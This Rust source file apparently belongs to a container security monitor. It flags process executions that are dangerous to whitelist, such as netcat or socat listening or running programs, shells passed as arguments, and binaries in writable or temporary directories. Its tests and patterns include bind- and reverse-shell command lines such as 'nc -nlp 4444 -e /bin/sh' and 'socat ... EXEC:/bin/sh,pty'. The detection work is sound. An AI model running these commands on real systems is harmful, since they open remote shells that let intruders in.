//! What speaks against excepting an execution, however often it is seen.

use portcullis_policy::catalog::{BEHAVIOUR, Catalog, Kind};

use super::base_name;
use crate::view::{Place, Process, Tool};

/// Directories for temporary files, which any process of a container may write to.
const TEMPORARY: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/"];

/// Why an exception would be dangerous. They are shown in this order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Danger {
    /// No tool, but what only attacks look like.
    Behaviour,
    /// A netcat is told to run a program for whom it talks to.
    Executes,
    /// A netcat waits for connections.
    Listens,
    /// A shell or interpreter is among the arguments.
    Shell,
    /// Anybody in the container could have put the program there.
    Writable,
    /// Or its caller.
    WritableParent,
}

impl Danger {
    /// One sentence.
    pub fn text(self) -> &'static str {
        match self {
            Self::Behaviour => {
                "this is no tool but a way to behave that intruders have: except the program's cause instead"
            }
            Self::Executes => "it runs a program for whoever is at the other end of the connection: that is a backdoor",
            Self::Listens => "it waits for connections: that may be a backdoor",
            Self::Shell => "it is given a shell or an interpreter to run: what that does is not seen in the arguments",
            Self::Writable => {
                "the program is not the image's, or is where any process may put another one in its place"
            }
            Self::WritableParent => "its caller is where any process may put another program in its place",
        }
    }
}

/// All that there is to say against one execution. `argv` is the tool's own, its name first.
pub fn dangers(
    catalog: &Catalog,
    tool: &Tool,
    argv: &[String],
    process: &Process,
    parent: Option<&str>,
) -> Vec<Danger> {
    let arguments = argv.get(1..).unwrap_or_default();
    let netcat = tool.category == "netcat";
    let any = |test: fn(&str) -> bool| arguments.iter().any(|argument| test(argument));
    [
        (tool.category == BEHAVIOUR, Danger::Behaviour),
        (netcat && any(executes), Danger::Executes),
        (netcat && any(listens), Danger::Listens),
        (arguments.iter().any(|argument| names_shell(catalog, argument)), Danger::Shell),
        (process.places.iter().any(|place| *place != Place::Unknown), Danger::Writable),
        (parent.is_some_and(is_temporary), Danger::WritableParent),
    ]
    .into_iter()
    .filter_map(|(holds, danger)| holds.then_some(danger))
    .collect()
}

/// Letters of `-lvp`: short options that may be written together.
fn has_short(argument: &str, wanted: &[char]) -> bool {
    argument.strip_prefix('-').is_some_and(|letters| !letters.starts_with('-') && letters.contains(wanted))
}

/// A long option, whole or with a value.
fn is_long(argument: &str, wanted: &[&str]) -> bool {
    let name = argument.split_once('=').map_or(argument, |(name, _)| name);
    wanted.contains(&name)
}

/// socat's addresses come in either case, behind a comma or not.
fn has_address(argument: &str, wanted: &[&str]) -> bool {
    let argument = argument.to_ascii_uppercase();
    wanted.iter().any(|address| argument.contains(address))
}

fn executes(argument: &str) -> bool {
    has_short(argument, &['e', 'c'])
        || is_long(argument, &["--exec", "--sh-exec", "--lua-exec", "--command"])
        || has_address(argument, &["EXEC:", "SYSTEM:", "SHELL:"])
}

fn listens(argument: &str) -> bool {
    has_short(argument, &['l', 'L'])
        || is_long(argument, &["--listen", "--keep-open", "--broker", "--chat"])
        || has_address(argument, &["LISTEN", "RECVFROM", "-L:"])
}

/// `/bin/sh`, `EXEC:/bin/sh,pty`, `-e/bin/sh`, `sh -i`.
fn names_shell(catalog: &Catalog, argument: &str) -> bool {
    let words = argument.split([' ', '\t', '\n', ',', ':', ';', '=', '|', '&', '\'', '"', '(', ')']);
    words.map(base_name).any(|name| runs_scripts(catalog, name))
}

/// Whether this is the name of a program that runs scripts: that it called something, says little about who wanted it.
pub fn runs_scripts(catalog: &Catalog, name: &str) -> bool {
    is_shell(catalog, name) || catalog.meaning_of_name(name).is_some_and(|meaning| meaning.kind == Kind::Interpreter)
}

/// Whether this is the name of a shell, or of what may be one.
pub fn is_shell(catalog: &Catalog, name: &str) -> bool {
    let meaning = catalog.meaning_of_name(name);
    meaning.is_some_and(|meaning| matches!(meaning.kind, Kind::Shell | Kind::Multicall | Kind::Loader))
}

fn is_temporary(path: &str) -> bool {
    TEMPORARY.iter().any(|directory| path.starts_with(directory))
        || path.contains("memfd:")
        || path.ends_with("(deleted)")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(category: &str, command: &str, places: &[Place], parent: Option<&str>) -> Vec<Danger> {
        let catalog = Catalog::shipped().unwrap();
        let tool = Tool { id: "x".into(), category: category.into(), techniques: Vec::new() };
        let argv: Vec<String> = command.split(' ').map(|word| word.replace('_', " ")).collect();
        let process = Process { places: places.to_vec(), ..Process::default() };
        dangers(&catalog, &tool, &argv, &process, parent)
    }

    #[test]
    fn netcats_that_listen_or_execute_are_dangerous() {
        use Danger::{Executes, Listens, Shell};
        for (command, expected) in [
            ("nc -z db 5432", &[][..]),
            ("nc -w 5 db 5432", &[]),
            ("nc -lvp 4444", &[Listens]),
            ("nc -nlp 4444 -e /bin/sh", &[Executes, Listens, Shell]),
            ("nc 10.0.0.1 4444 -e /usr/bin/id", &[Executes]),
            ("nc -c bash_-i 10.0.0.1", &[Executes, Shell]),
            ("ncat --sh-exec=id 10.0.0.1", &[Executes]),
            ("ncat --listen 80", &[Listens]),
            ("socat TCP-LISTEN:80,fork EXEC:/bin/sh,pty", &[Executes, Listens, Shell]),
            ("socat tcp4-listen:80 tcp:db:5432", &[Listens]),
            ("socat - tcp:db:5432", &[]),
        ] {
            assert_eq!(found("netcat", command, &[], None), expected, "{command}");
        }
        // -e and -l are others' options as well.
        assert_eq!(found("http", "curl -e ref -L http://h/", &[], None), []);
    }

    #[test]
    fn shells_places_and_behaviour_are_dangerous() {
        assert_eq!(found("remote-shell", "ssh host /bin/bash", &[], None), [Danger::Shell]);
        assert_eq!(found("remote-shell", "ssh host uptime", &[], None), []);
        assert_eq!(found("http", "curl http://h/x.sh", &[], None), []);
        assert_eq!(found("http", "curl http://h/", &[Place::UpperLayer], None), [Danger::Writable]);
        assert_eq!(found("http", "curl http://h/", &[], Some("/tmp/x")), [Danger::WritableParent]);
        assert_eq!(found("http", "curl http://h/", &[], Some("/tmpfiles/x")), []);
        assert_eq!(found(BEHAVIOUR, "sh -i", &[], None), [Danger::Behaviour]);
    }
}
